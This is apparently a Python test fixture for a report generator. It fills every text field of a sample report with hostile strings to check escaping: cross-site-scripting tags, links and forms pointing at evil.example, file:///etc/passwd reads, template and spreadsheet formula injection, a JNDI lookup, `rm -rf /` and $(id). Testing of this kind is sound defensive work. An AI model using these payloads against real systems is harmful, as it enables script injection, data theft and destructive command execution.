"""Texts that a client, or somebody who writes to one, might put into a cell."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

import made_notebooks as made
from servicegap.report.content import Promise
from servicegap.report.model import Approval, Brand

TEXTS = (
    "<script>alert(1)</script>",
    "</style><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    '"><img src=x onerror=alert(4)>',
    "'><svg onload=alert(5)>",
    "<iframe src='file:///etc/passwd'></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '" onmouseover="alert(6)" x="',
    "<a href='javascript:alert(7)'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=a></form>",
    "<details open ontoggle=alert(8)>",
    "<!-- --><b>bold</b> -->",
    "]]><x/>",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "{{ 7 * 7 }} {% for x in y %}",
    "{{ ''.__class__.__mro__ }}",
    '#read("/etc/passwd")',
    '#panic("x") #import "x.typ": *',
    "= heading *bold* _emph_ $x^2$ `raw` @label <label>",
    "\\u{41} \\ #[content] ~ --- ...",
    "[x](javascript:alert(9)) ![y](https://evil.example/p.png)",
    "[t](file:///etc/passwd) <https://evil.example/auto>",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "%0d%0aSet-Cookie: a=b",
    "a\x00b\x07c\x1bd",
    "up \u202eside down\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\ufeff \u00ad soft",
    "lone \ud800 surrogate \uffff",
    "line one\nline two\r\nline three\ttab",
    "中文 שלום مرحبا हिन्दी 😀 ＬＯＮＧ",
    "Zoë Łukasz Ångström & Søn – “quotes” ‘single’",
    "W" * 120,
    "/etc/passwd ../../../etc/passwd C:\\Windows\\win.ini",
    "${jndi:ldap://evil.example/a} `rm -rf /` $(id)",
    "x" * 8 + " nan None undefined NaN",
)


def notebooks(text: str) -> dict:
    """Session 01 with `text` in every place where text may stand."""
    action = made.finding("csat")["action"] | {"what": text, "owner": text, "id": text}
    words = {"label": text, "title": text, "sentence": text, "unit": text, "per": text}
    drawn = {
        "columns": [
            {"name": "who", "label": text, "unit": "", "kind": "text"},
            {"name": "value", "label": text, "unit": text, "kind": "number"},
        ],
        "rows": [[text, 1.5], [f"{text} too", 2.5]],
    }
    shown = {"title": text, "caption": text, "data": drawn}
    data = {
        "columns": [
            {"name": "a", "label": text, "unit": text, "kind": "text"},
            {"name": "b", "label": text, "unit": "", "kind": "number"},
        ],
        "rows": [[text, 1.5], [text, None]],
    }
    return {
        "01_benchmarking": made.session(
            "01",
            made.text(f"A lead {text}\n\n{text}\n\n- {text}\n\n> {text}\n\n### {text}\n\nend"),
            made.code(made.figure("01", "standing", about="csat", alt=text, **shown)),
            made.code(made.figure("01", "silent", alt=text, **shown)),
            made.code(made.table("01", "translator", **shown | {"data": data})),
            made.code(made.finding("csat", caveats=[text, f"{text} x"], action=action, **words)),
            made.code(made.figure("01", "funnel", title=text, not_measured=text)),
        )
    }


def report(text: str):
    """A whole report full of `text`."""
    books = notebooks(text)
    promise = Promise(text, text, date(2025, 1, 1), None, text)
    client = replace(
        made.FACTS,
        name=text,
        id=text,
        promised=(promise,),
        currency=text,
        brand=Brand(name=text, footer=text, contact=text, cover=text),
        approval=Approval(text, date(2025, 7, 1)),
        about=text,
        notes={"00": text, "01": f"# {text}\n\n{text}\n\n- {text}"},
    )
    ledger = [made.LEDGERS[0] | {"table": text, "file": text, "reasons": {text: 4, "x": 10}}]
    status = made.statuses(books) | {
        "05_pricing_vs_value": {"status": "not_measured", "reason": text}
    }
    return made.build(books, client, ledger, status)
